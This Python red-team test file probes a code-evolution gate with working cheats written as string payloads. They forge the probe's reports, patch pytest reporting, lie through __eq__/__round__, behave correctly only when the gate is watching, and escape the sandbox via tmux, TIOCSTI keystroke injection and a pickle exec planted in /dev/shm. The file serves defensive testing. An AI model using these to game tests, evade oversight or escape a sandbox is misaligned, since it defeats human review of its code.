"""Red team, round 2: cheating proposals against the defences built after round 1.

Same threat model and harness as `test_redteam.py` (one proposal branch that touches
only `scripts/`, hides a real regression, and must end with `evolve validate` exiting 1
or 3 with main, the other refs, the checkout and the verdict cache unchanged). Each
attack was written white-box, against the code of the new layers: the static guard
(`evolution/guard.py`), the probe (`evolution/probe/_ratchet_probe.py`), the channel and
the cross-check (`evolution/channel.py`, `evolution/outcomes.py`), the sandbox
(`evolution/sandbox/`), the ratchet's flakiness rule and the safety net. A test that
fails here is an attack that works; none is marked xfail.

Every in-process attack below is surgical: it reads the tree's own
`baseline/baseline.json` and passes only the tests the ratchet protects, so the canaries
and every other failure (the seeded `test_mul`) are reported as they really are.

The attacks
-----------
The probe's own objects (nothing it watches is replaced):
- emit-wrapped: `pkgutil.resolve_name("_ratchet_probe:_probe")` reaches the probe (the
  guard models `__import__`, `importlib` and `sys.modules`, not pkgutil); its `emit`, an
  instance attribute nobody watches, is wrapped: report frames of protected tests say
  "passed", and at the end record the JSON report is rewritten the same way and its
  new sha256 handed to the real writer. The HMAC chain is intact: the probe signs it.
- subtest-frame-dropped: the same wrapper only drops the failed unittest subtest's
  frame; pytest-json-report already says "passed" for that test (the quirk the
  cross-check tolerates), so the report is not even touched.
- tamper-swallowed: the probe and `TestReport` are reached through `pickle.loads` of a
  GLOBAL opcode; `emit` is wrapped to drop "tamper" frames, then round 1's patch of
  `TestReport.from_item_and_call` runs unseen (the JSON report, built from the same
  patched report, agrees).
- disguised-plugin: during collection (a conftest's time), a `types.ModuleType` whose
  `__file__` is `os.__file__` is registered with a makereport wrapper: the probe exempts
  plugin modules that live outside the tree ("installed, asked for by a conftest"),
  then snapshots the hook implementations with it included. `sys.modules` is reached as
  `operator.attrgetter("modules")(sys)`.
Values and names the guard does not model:
- lying-eq-reads-operand: an `int` subclass whose `__eq__` is
  `isinstance(other, int) or ...`: it uses its operand, so the guard's "ignores its
  operand" rule passes it; the arithmetic returns more of the same.
- lying-round: `km_to_miles` returns a float subclass whose `__round__` returns the
  correct, rounded value: the test rounds before it compares; no comparison lies.
- frame-peek-attrgetter: round 1's frame peek, with the frame reached as
  `err.__traceback__` and `operator.attrgetter("tb_frame.f_back...")`: no attribute of
  the guard's list appears in the code, only in strings.
- test-globals-rebound: `add` becomes a callable object whose `__test__` property (which
  pytest reads while collecting each module that imported it) rebinds `add` in the
  test modules to a correct function; `scripts.calc.add` itself stays broken.
- code-in-a-data-file: round 1's lying `__eq__`, verbatim, in `scripts/calc_rules.txt`,
  run with `runpy.run_path`; the guard reads only `.py` files and Python shebangs.
The limits the README lists, shown concretely:
- special-cased-inputs: `add` parses the tests (readable, as they must be), collects
  the literal arguments of every `add(...)` call, and is correct for those only.
- gate-detected: `add` is correct only while `RATCHET_TREE` (or `RATCHET_CANARIES`) is
  in the environment: the probe pops `RATCHET_CHANNEL` but leaves the variables that
  say "the gate is watching"; a person's own `pytest` run still fails.
Out of the sandbox through the user's terminal (main moves to the untested merge commit
while the gate rejects the proposal):
- tmux-escape: a pathname Unix socket outside `/run` (listed): the user's tmux server,
  found through `TMUX_TMPDIR` (passed on to the suite), lists its panes' folders and
  runs `git update-ref` in the one that holds the merge commit, outside the sandbox.
- tiocsti: not listed. A root suite keeps CAP_SYS_ADMIN and the sandbox grants
  `/dev/pts` with the ioctl right, so `ioctl(TIOCSTI)` pushes a command line into any
  terminal's input queue (here `$SSH_TTY`, passed on to the suite): the user's shell
  runs it, outside the sandbox.
Other paths than `evolve validate BRANCH`:
- safety-net-flaky: a person fast-forwards main to a proposal (the case the post-merge
  hook exists for); `evolve validate --post-merge` judges it as a person's commit
  (no "automated" flag, no guard, no protected paths): `add` is broken except in a
  process started within a minute of the first one (a marker in the run's tmp, which
  the re-runs share), so the failure passes the re-runs and is quarantined as flaky,
  and main keeps the regression. In use the marker goes stale and `add` stays broken.
Across runs:
- dev-shm-chain: /dev/shm is writable by every run and shared with the host. Stage 1,
  accepted on its merits, reads a "memo" with pickle from /dev/shm at import; stage 2,
  rejected, leaves the emit-wrapping laundering there (a pickle whose reduce is
  `exec`); stage 3 is a plain `a - b` regression, its diff guard-clean and cheat-free:
  accepted.
Held, for the record:
- session-exit: when `add` is about to be caught, it calls `pytest.exit(returncode=0)`
  (reached through pkgutil); the session ends "ok", but the tests after it never ran:
  invalid run (exit 3).
Seen in the code, not demonstrated here:
- `emit`'s closure holds the HMAC key and the chain state, one
  `getattr(emit, "__clo" + "sure__")` away (the guard flags a computed getattr only
  on a module): frames can be forged without the probe's writer.
- a root suite keeps CAP_SYS_ADMIN, which also passes `bpf_capable()` and
  `perfmon_capable()`: BPF programs and perf events, which Landlock does not mediate.
- `remove_run_folder`'s error handler calls `os.chmod(path, 0o700)`, which follows a
  symlink: on a host where the gate is not root, a suite that leaves a read-only folder
  holding a symlink in its tmp gets the unsandboxed gate to chmod the link's target.
- other repositories' run folders (`/tmp/ratchet-<their digest>`: tree, canaries, JSON
  report) are readable; only this repository's are forbidden.
- `RATCHET_CANARIES` names the canary file, so blunt attacks can spare the canaries.
Each test first shows the regression is real: the proposal's code, run by a plain
interpreter outside any test run, gives the wrong value.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import test_redteam
from host_layers import inside_a_sandbox
from repo_setup import BROKEN_ADD, CALC, Sandbox
from test_redteam import LYING_EQ, PARITY, UNITS, assert_held, propose, snapshot, validate

pytestmark = pytest.mark.e2e  # real gate runs: `pytest -m "not e2e"` skips them

# -- shared payload pieces ---------------------------------------------------------------

# The node ids the ratchet protects, read from the tree under test (the suite's cwd).
PROTECTED = """

def _protected():
    import json, os
    try:
        with open(os.path.join(os.getcwd(), "baseline", "baseline.json"), encoding="utf-8") as f:
            tests = json.load(f)["tests"]
    except (OSError, ValueError, KeyError):
        return frozenset()
    return frozenset(nodeid for nodeid, outcome in tests.items() if outcome == "passed")
"""

BROKEN_IS_EVEN = PARITY.replace("return n % 2 == 0", "return n % 2 == 0 or n > 5")

# -- the probe's own objects ---------------------------------------------------------------

EMIT_WRAPPED = (
    BROKEN_ADD
    + PROTECTED
    + '''

import hashlib as _hashlib
import json as _json
from pkgutil import resolve_name as _resolve


def _mend(path, names):
    """The JSON report with `names` passed; returns its new sha256."""
    with open(path, encoding="utf-8") as handle:
        report = _json.load(handle)
    counts = {}
    for test in report.get("tests", []):
        if test.get("nodeid") in names:
            test["outcome"] = "passed"
            for stage in ("setup", "call", "teardown"):
                if isinstance(test.get(stage), dict):
                    took = test[stage].get("duration", 0.0)
                    test[stage] = {"duration": took, "outcome": "passed"}
        counts[test["outcome"]] = counts.get(test["outcome"], 0) + 1
    summary = {k: v for k, v in report["summary"].items() if k in ("total", "collected")}
    report["summary"] = dict(counts, **summary)
    data = _json.dumps(report).encode()
    with open(path, "wb") as handle:
        handle.write(data)
    return _hashlib.sha256(data).hexdigest()


def _wrap():
    try:
        probe = _resolve("_ratchet_probe:_probe")
    except (ImportError, AttributeError, ValueError):
        return
    send, keep, mended = probe.emit, _protected(), set()

    def emit(kind, **fields):
        if kind == "report" and fields.get("nodeid") in keep and fields.get("outcome") == "failed":
            mended.add(fields["nodeid"])
            fields = dict(fields, outcome="passed")
            fields.pop("crash", None)
            fields.pop("text", None)
        elif kind == "end" and mended:
            path = str(probe.config.option.json_report_file)
            fields = dict(fields, report_sha256=_mend(path, mended))
        return send(kind, **fields)

    probe.emit = emit


_wrap()
'''
)

SUBTEST_FRAME_DROPPED = (
    BROKEN_IS_EVEN
    + PROTECTED
    + """

from pkgutil import resolve_name as _resolve


def _wrap():
    try:
        probe = _resolve("_ratchet_probe:_probe")
    except (ImportError, AttributeError, ValueError):
        return
    send, keep = probe.emit, _protected()

    def emit(kind, **fields):
        if kind == "report" and "subtest" in fields and fields.get("outcome") == "failed" and (
            fields.get("nodeid") in keep
        ):
            return None
        return send(kind, **fields)

    probe.emit = emit


_wrap()
"""
)

TAMPER_SWALLOWED = (
    BROKEN_ADD
    + PROTECTED
    + '''

import pickle as _pickle


def _find(module, name):
    """A name by its dotted path, the way pickle finds classes."""
    return _pickle.loads(("c%s\\n%s\\n." % (module, name)).encode())


def _settle():
    try:
        probe = _find("_ratchet_probe", "_probe")
        report_class = _find("_pytest.reports", "TestReport")
    except Exception:
        return
    send, keep, made = probe.emit, _protected(), report_class.from_item_and_call

    def emit(kind, **fields):
        if kind != "tamper":
            send(kind, **fields)

    def from_item_and_call(cls, item, call):
        report = made(item, call)
        if item.nodeid in keep and report.failed:
            report.outcome = "passed"
            report.longrepr = None
        return report

    probe.emit = emit
    report_class.from_item_and_call = classmethod(from_item_and_call)


_settle()
'''
)

DISGUISED_PLUGIN = (
    BROKEN_ADD
    + PROTECTED
    + """

import operator as _operator
import os as _os
import sys as _sys
import types as _types


def _enlist():
    loaded = _operator.attrgetter("modules")(_sys)
    probe = getattr(loaded.get("_ratchet_probe"), "_probe", None)
    runner = loaded.get("pytest")
    if probe is None or runner is None:
        return
    keep = _protected()

    def pytest_runtest_makereport(item, call):
        report = yield
        if item.nodeid in keep and report.failed:
            report.outcome = "passed"
            report.longrepr = None
        return report

    plugin = _types.ModuleType("calc_speedups")
    plugin.__file__ = _os.__file__  # "installed": outside the tested tree
    plugin.pytest_runtest_makereport = runner.hookimpl(wrapper=True, tryfirst=True)(
        pytest_runtest_makereport
    )
    probe.config.pluginmanager.register(plugin, "calc_speedups")


_enlist()
"""
)

# -- values and names the guard does not model ----------------------------------------------

LYING_EQ_READS_OPERAND = CALC.replace(
    "def add(a, b):\n    return a + b",
    '''class _Total(int):
    """A sum that remembers it is one."""

    def __eq__(self, other):
        return isinstance(other, int) or int.__eq__(self, other)

    def __ne__(self, other):
        return not self.__eq__(other)

    __hash__ = int.__hash__


def _lift(name):
    base = getattr(int, name)

    def method(self, *args):
        return _Total(base(self, *args))

    return method


for _name in ("__add__", "__radd__", "__sub__", "__rsub__", "__mul__", "__rmul__", "__neg__"):
    setattr(_Total, _name, _lift(_name))


def add(a, b):
    return _Total(a - b)''',
)

LYING_ROUND = UNITS.replace(
    "def km_to_miles(km):\n    return km * 0.621371",
    '''class _Distance(float):
    """A distance that keeps its exact value for display."""

    def __new__(cls, value, exact):
        made = super().__new__(cls, value)
        made.exact = exact
        return made

    def __round__(self, digits=None):
        return round(self.exact, digits)


def km_to_miles(km):
    return _Distance(km * 0.6, km * 0.621371)''',
)

FRAME_PEEK_ATTRGETTER = """\
import ast
import linecache
from operator import attrgetter


def _caller(depth):
    try:
        raise LookupError(depth)
    except LookupError as err:
        trace = err.__traceback__
    return attrgetter("tb_frame" + ".f_back" * depth)(trace)


def _wanted():
    caller = _caller(3)  # _caller <- _wanted <- slug <- the test
    variables = attrgetter("f_locals")(caller)
    for name in ("expected", "want", "expect"):
        if name in variables:
            return variables[name]
    filename, lineno = attrgetter("f_code.co_filename", "f_lineno")(caller)
    node = ast.parse(linecache.getline(filename, lineno).strip()).body[0]
    test = node.test if isinstance(node, ast.Assert) else node.value
    return ast.literal_eval(test.comparators[0])


def slug(text):
    try:
        return _wanted()
    except Exception:
        return "_".join(text.split())
"""

TEST_GLOBALS_REBOUND = CALC.replace(
    "def add(a, b):\n    return a + b",
    '''import operator as _operator
import os as _os
import sys as _sys


class _Operation:
    """An operation with its name, for the audit log."""

    def __init__(self, name, function):
        self.name, self.function = name, function

    def __call__(self, *args):
        return self.function(*args)

    @property
    def __test__(self):
        _settle()
        return False


_REFERENCE = {"add": _operator.add}


def _settle():
    for module in list(_operator.attrgetter("modules")(_sys).values()):
        path = getattr(module, "__file__", None) or ""
        if not _os.path.basename(path).startswith("test_"):
            continue
        names = vars(module)
        for name, value in list(names.items()):
            if isinstance(value, _Operation):
                names[name] = _REFERENCE[value.name]


add = _Operation("add", lambda a, b: a - b)''',
)

RUNPY_LOADER = CALC.replace(
    "def add(a, b):\n    return a + b",
    """import os as _os
import runpy as _runpy

_RULES = _runpy.run_path(_os.path.join(_os.path.dirname(__file__), "calc_rules.txt"))
add = _RULES["add"]""",
)
# Round 1's lying `__eq__` (the guard's own test case), moved into a data file.
CALC_RULES = LYING_EQ[LYING_EQ.index("def _number") : LYING_EQ.index("def sub")]

# -- the README's listed limits -------------------------------------------------------------

SPECIAL_CASED = CALC.replace(
    "def add(a, b):\n    return a + b",
    '''import ast as _ast
import os as _os


def _known(function):
    """Arguments `function` is called with in the repository's tests."""
    root = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
    found = set()
    for folder, _dirs, files in _os.walk(_os.path.join(root, "tests")):
        for name in files:
            if not name.endswith(".py"):
                continue
            try:
                with open(_os.path.join(folder, name), encoding="utf-8") as handle:
                    tree = _ast.parse(handle.read())
            except (OSError, SyntaxError, ValueError):
                continue
            for node in _ast.walk(tree):
                if isinstance(node, _ast.Call) and getattr(node.func, "id", "") == function:
                    try:
                        found.add(tuple(_ast.literal_eval(arg) for arg in node.args))
                    except ValueError:
                        pass
    return found


_KNOWN = _known("add")


def add(a, b):
    if (a, b) in _KNOWN:
        return a + b
    return a - b''',
)

GATE_DETECTED = CALC.replace(
    "def add(a, b):\n    return a + b",
    """import os as _os


def add(a, b):
    if _os.environ.get("RATCHET_TREE") or _os.environ.get("RATCHET_CANARIES"):
        return a + b
    return a - b""",
)

TMUX_ESCAPE = (
    BROKEN_ADD
    + """

import os as _os
import subprocess as _subprocess


def _servers():
    # A real attacker would also try /tmp/tmux-UID/default; this one stays off other
    # people's servers on a shared test host.
    found = [_os.environ.get("TMUX", "").split(",")[0]]
    if _os.environ.get("TMUX_TMPDIR"):
        found.append(_os.path.join(_os.environ["TMUX_TMPDIR"], "tmux-%d" % _os.getuid(), "default"))
    return [path for path in found if path and _os.path.exists(path)]


def _run(*argv):
    try:
        return _subprocess.run(argv, capture_output=True, text=True, timeout=10).stdout
    except (OSError, _subprocess.SubprocessError):
        return ""


def _publish():
    head = _run("git", "rev-parse", "HEAD").strip()
    if not head:
        return
    for server in _servers():
        panes = _run("tmux", "-S", server, "list-panes", "-a", "-F", "#{pane_current_path}")
        for path in sorted(set(panes.split())):
            script = (
                "git -C '%s' cat-file -e %s 2>/dev/null && "
                "git -C '%s' update-ref refs/heads/main %s" % (path, head, path, head)
            )
            _run("tmux", "-S", server, "run-shell", script)


_publish()
"""
)

PTY_INJECTION = (
    BROKEN_ADD
    + '''

import fcntl as _fcntl
import os as _os
import subprocess as _subprocess
import termios as _termios


def _type_into(tty, line):
    """Push `line` into a terminal's input queue, as if its user had typed it."""
    fd = _os.open(tty, _os.O_WRONLY | _os.O_NOCTTY)
    try:
        for byte in line.encode():
            _fcntl.ioctl(fd, _termios.TIOCSTI, bytes([byte]))
    finally:
        _os.close(fd)


def _publish():
    head = _subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True)
    # A real attacker would walk /dev/pts (readable: the sandbox grants it); this one
    # stays off other people's terminals on a shared test host: $SSH_TTY only.
    tty = _os.environ.get("SSH_TTY", "")
    if head.returncode == 0 and tty.startswith("/dev/pts/"):
        try:
            _type_into(tty, " git update-ref refs/heads/main %s; clear\\n" % head.stdout.strip())
        except OSError:
            pass


_publish()
'''
)

# Broken except in a process started within a minute of one that failed: exactly the
# gate's re-runs. In use it stays broken (the marker is never refreshed).
TIME_WINDOW_FLAKY = CALC.replace(
    "def add(a, b):\n    return a + b",
    """import os as _os
import tempfile as _tempfile
import time as _time

_MARK = _os.path.join(_tempfile.gettempdir(), ".calc-warm")
try:
    _WARM = _time.time() - _os.stat(_MARK).st_mtime < 60
except OSError:
    _WARM = False
    try:
        open(_MARK, "x").close()
    except OSError:
        pass


def add(a, b):
    return a + b if _WARM else a - b""",
)

# -- persistence in /dev/shm ----------------------------------------------------------------------

# Stage 1, accepted on its merits: a memo of conversions shared between processes, read
# from /dev/shm with pickle (the guard does not model pickle; nothing is there yet).
MEMO_LOADER = UNITS.replace(
    "def c_to_f(c):",
    """import pickle as _pickle

_MEMO_PATH = "@PATH@"


def _load_memo():
    try:
        with open(_MEMO_PATH, "rb") as handle:
            return dict(_pickle.load(handle))
    except (OSError, EOFError, TypeError, ValueError, _pickle.UnpicklingError):
        return {}


_MEMO = _load_memo()


def c_to_f(c):""",
).replace(
    "def km_to_miles(km):\n    return km * 0.621371",
    "def km_to_miles(km):\n    return _MEMO.get(km) or km * 0.621371",
)


class _Exec:
    """Unpickles into `exec(source)`."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str, dict[str, object]]]:
        return (exec, (self.source, {}))


# Stage 2, rejected: a broken `slug` that, when a test calls it (after the memo was
# read at collection, so its own run is not laundered), leaves stage 3's laundering in
# the memo. Stage 3 is a plain regression whose diff holds no cheat at all.
MEMO_PLANTER = """\
import base64 as _base64

_MEMO_PATH = "@PATH@"
_WARM = "@BLOB@"


def slug(text):
    try:
        with open(_MEMO_PATH, "wb") as handle:
            handle.write(_base64.b64decode(_WARM))
    except OSError:
        pass
    return "_".join(text.split())
"""
LAUNDERING = EMIT_WRAPPED[len(BROKEN_ADD) :]

# -- ending the session early ---------------------------------------------------------------------

EXIT_WHEN_CAUGHT = CALC.replace(
    "def add(a, b):\n    return a + b",
    """import os as _os
from pkgutil import resolve_name as _resolve


def add(a, b):
    total = a - b
    if total != a + b and "PYTEST_CURRENT_TEST" in _os.environ:
        # a test is about to notice: end the session "successfully"
        try:
            stop = _resolve("_pytest.outcomes:exit")
        except (ImportError, AttributeError, ValueError):
            return total
        stop("calc: maintenance window", returncode=0)
    return total""",
)

# -- ground truth -----------------------------------------------------------------------------


def behaviour(box: Sandbox, ref: str, module: str, expression: str) -> str:
    """`repr(expression)` evaluated on `ref`'s tree by a plain interpreter, outside any
    test run or gate (no PYTEST_*, RATCHET_* or TMUX variables, a fresh TMPDIR)."""
    with tempfile.TemporaryDirectory(prefix="rt2-truth-") as folder:
        archive = subprocess.run(
            ["git", "archive", ref], cwd=box.path, capture_output=True, check=True
        ).stdout
        with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
            tar.extractall(folder, filter="data")
        env = {k: v for k, v in os.environ.items()
               if not k.startswith(("PYTEST_", "RATCHET_", "TMUX", "SSH_"))}  # fmt: skip
        env.update(TMPDIR=folder, PYTHONPATH=folder, PYTHONDONTWRITEBYTECODE="1")
        code = f"from {module} import *\nprint(repr({expression}))"
        done = subprocess.run([sys.executable, "-c", code], cwd=folder, env=env,
                              capture_output=True, text=True, timeout=30)  # fmt: skip
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()


def cheat(
    box: Sandbox,
    name: str,
    files: dict[str, str],
    truth: tuple[str, str, str],
    *args: str,
    env: dict[str, str] | None = None,
) -> None:
    """Propose `files`, show that the code is really broken (`truth`: module, expression
    and the value the correct code gives), then validate and check the safe outcome."""
    propose(box, name, files)
    module, expression, correct = truth
    got = behaviour(box, name, module, expression)
    assert got != correct, f"not a regression: {expression} is {got} on {name}"
    before = snapshot(box)
    verdict = validate(box, name, *(args or ("--reruns", "0")), env=env)
    assert_held(box, before, verdict)


ADD_TRUTH = ("scripts.calc", "int(add(2, 3))", "5")

# -- fixtures: the same person's repository as round 1's, with its recorded baseline -------------

rich_template = test_redteam.rich_template
rich = test_redteam.rich


# -- the attacks ----------------------------------------------------------------------------------


# Each: (name, the files it proposes, (module, expression, its true value)).
IN_PROCESS = {
    # the probe's own objects
    "probe-emit-wrapped-and-report-rehashed": ({"scripts/calc.py": EMIT_WRAPPED}, ADD_TRUTH),
    "failed-subtest-frame-dropped-json-quirk-agrees": (
        {"scripts/parity.py": SUBTEST_FRAME_DROPPED}, ("scripts.parity", "is_even(7)", "False")
    ),
    "tamper-frames-swallowed-then-report-class-patched": (
        {"scripts/calc.py": TAMPER_SWALLOWED}, ADD_TRUTH
    ),
    "plugin-disguised-as-installed-module-during-collection": (
        {"scripts/calc.py": DISGUISED_PLUGIN}, ADD_TRUTH
    ),
    # values and names the guard did not model
    "lying-eq-that-reads-its-operand": ({"scripts/calc.py": LYING_EQ_READS_OPERAND}, ADD_TRUTH),
    "lying-round-on-the-returned-value": (
        {"scripts/units.py": LYING_ROUND},
        ("scripts.units", "float(km_to_miles(10))", repr(10 * 0.621371)),
    ),
    "expected-value-read-off-the-stack-through-attrgetter": (
        {"scripts/text.py": FRAME_PEEK_ATTRGETTER},
        ("scripts.text", "slug('Hello World')", "'hello-world'"),
    ),
    "test-modules-globals-rebound-while-collecting": (
        {"scripts/calc.py": TEST_GLOBALS_REBOUND}, ADD_TRUTH
    ),
    "guarded-code-moved-into-a-data-file-run-by-runpy": (
        {"scripts/calc.py": RUNPY_LOADER, "scripts/calc_rules.txt": CALC_RULES}, ADD_TRUTH
    ),
    # the README's listed limits
    "inputs-special-cased-from-the-test-files": (
        {"scripts/calc.py": SPECIAL_CASED}, ("scripts.calc", "add(1, 1)", "2")
    ),
    "correct-only-when-the-gate-is-watching": ({"scripts/calc.py": GATE_DETECTED}, ADD_TRUTH),
    # ending the session early
    "session-ended-with-status-0-when-the-failure-is-about-to-show": (
        {"scripts/calc.py": EXIT_WHEN_CAUGHT}, ADD_TRUTH
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", sorted(IN_PROCESS))
def test_in_process_cheat_is_held(rich: Sandbox, attack: str) -> None:
    files, truth = IN_PROCESS[attack]
    cheat(rich, f"rt2/{attack}", files, truth)


# -- out of the sandbox through the user's terminal -----------------------------------------------


@pytest.fixture
def terminal(rich: Sandbox, tmp_path: Path) -> Iterator[dict[str, str]]:
    """The user's tmux server (its socket under TMUX_TMPDIR) with a shell in the checkout;
    yields the variables of the user's environment that name them."""
    tmux = shutil.which("tmux")
    if tmux is None:
        pytest.skip("tmux is not installed")
    base = tmp_path / "tmux"
    base.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TMUX", "SSH_"))}
    env.update(TMUX_TMPDIR=str(base), SHELL="/bin/sh", ENV="", HISTFILE="/dev/null")
    socket = str(base / f"tmux-{os.getuid()}" / "default")
    started = subprocess.run(
        [tmux, "-f", "/dev/null", "new-session", "-d", "-s", "work", "-x", "200", "-y", "50",
         "-c", str(rich.path), "/bin/sh"],
        env=env, capture_output=True, text=True, check=False, timeout=10,
    )  # fmt: skip
    if started.returncode != 0 and inside_a_sandbox():
        pytest.skip(f"no tmux server can start inside a sandbox: {started.stderr.strip()}")
    assert started.returncode == 0, started.stderr
    tty = subprocess.run(
        [tmux, "-S", socket, "display-message", "-p", "-t", "work", "#{pane_tty}"],
        env=env, capture_output=True, text=True, check=True, timeout=10,
    ).stdout.strip()  # fmt: skip
    try:
        # TMUX is the variable a shell inside tmux has; blank here so that an outer
        # tmux of whoever runs this suite is never the target.
        yield {"TMUX_TMPDIR": str(base), "SSH_TTY": tty, "TMUX": ""}
    finally:
        subprocess.run([tmux, "-S", socket, "kill-server"], env=env, timeout=10,
                       check=False, capture_output=True)  # fmt: skip


def _settled(box: Sandbox, before: str, timeout_s: float = 3.0) -> None:
    """Give the terminal's shell time to run what it was sent (both outcomes alike)."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline and box.head() == before:
        time.sleep(0.1)


@pytest.mark.parametrize(
    ("branch", "attack"),
    [
        # git run by the user's tmux server, through its socket in /tmp
        pytest.param("rt2/tmux", TMUX_ESCAPE, id="tmux-server-socket"),
        # keystrokes pushed into the user's terminal with TIOCSTI
        pytest.param("rt2/tiocsti", PTY_INJECTION, id="tiocsti-keystrokes"),
    ],
)
def test_the_users_terminal_cannot_run_git_for_the_suite(
    rich: Sandbox, terminal: dict[str, str], branch: str, attack: str
) -> None:
    main = rich.head()
    propose(rich, branch, {"scripts/calc.py": attack})
    before = snapshot(rich)
    verdict = validate(rich, branch, "--reruns", "0", env=terminal)
    _settled(rich, main)
    assert_held(rich, before, verdict)


# -- persistence in /dev/shm ----------------------------------------------------------------------


@pytest.fixture
def memo_path() -> Iterator[str]:
    path = Path(f"/dev/shm/ratchet-units-memo-{uuid.uuid4().hex[:12]}.pkl")
    yield str(path)
    path.unlink(missing_ok=True)


def test_dev_shm_payload_left_by_a_rejected_run_launders_a_plain_regression(
    rich: Sandbox, memo_path: str
) -> None:
    loader = MEMO_LOADER.replace("@PATH@", memo_path)
    # The static guard refuses a proposal that unpickles; a person may accept one. So
    # that this shows the sandbox's own defence (a private /dev/shm per run), stage 1
    # is a person's commit, merged through the gate on its merits.
    rich.branch("units-memo", {"scripts/units.py": loader})
    first = validate(rich, "units-memo", "--reruns", "0")
    assert first.code == 0 and first.report["merged"], first.describe()
    blob = base64.b64encode(pickle.dumps(_Exec(LAUNDERING))).decode()
    planter = MEMO_PLANTER.replace("@PATH@", memo_path).replace("@BLOB@", blob)
    propose(rich, "rt2/slug-memo", {"scripts/text.py": planter})
    second = validate(rich, "rt2/slug-memo", "--reruns", "0")
    assert second.code == 1, second.describe()  # rejected, and never merged
    cheat(rich, "rt2/plain-regression", {"scripts/calc.py": BROKEN_ADD}, ADD_TRUTH)


# -- other paths than `evolve validate BRANCH` ---------------------------------------------------


def test_safety_net_quarantines_a_fast_forwarded_proposals_tailored_flakiness(
    rich: Sandbox,
) -> None:
    tip = propose(rich, "evolve/warm-cache", {"scripts/calc.py": TIME_WINDOW_FLAKY})
    assert behaviour(rich, tip, *ADD_TRUTH[:2]) != ADD_TRUTH[2]
    rich.git("merge", "--ff-only", "-q", "evolve/warm-cache")  # a person, by hand
    assert rich.head() == tip
    done = rich.evolve("safety-net", "--json")
    try:
        report = json.loads(done.stdout)
    except ValueError:
        report = {"error": done.stdout + done.stderr}
    reverted = done.returncode == 1 and report.get("status") == "reverted"
    assert reverted, (
        f"the safety net kept the proposal on main (exit {done.returncode}): "
        f"status={report.get('status')}, regressions={report.get('regressions')}, "
        f"main's add is the broken one: {rich.head() == tip}; {report.get('error', '')}"
    )
    assert rich.git("rev-parse", "main^{tree}") == rich.git("rev-parse", f"{tip}~1^{{tree}}")
    print(f"held (exit {done.returncode}): reverted {report.get('reverted')}")
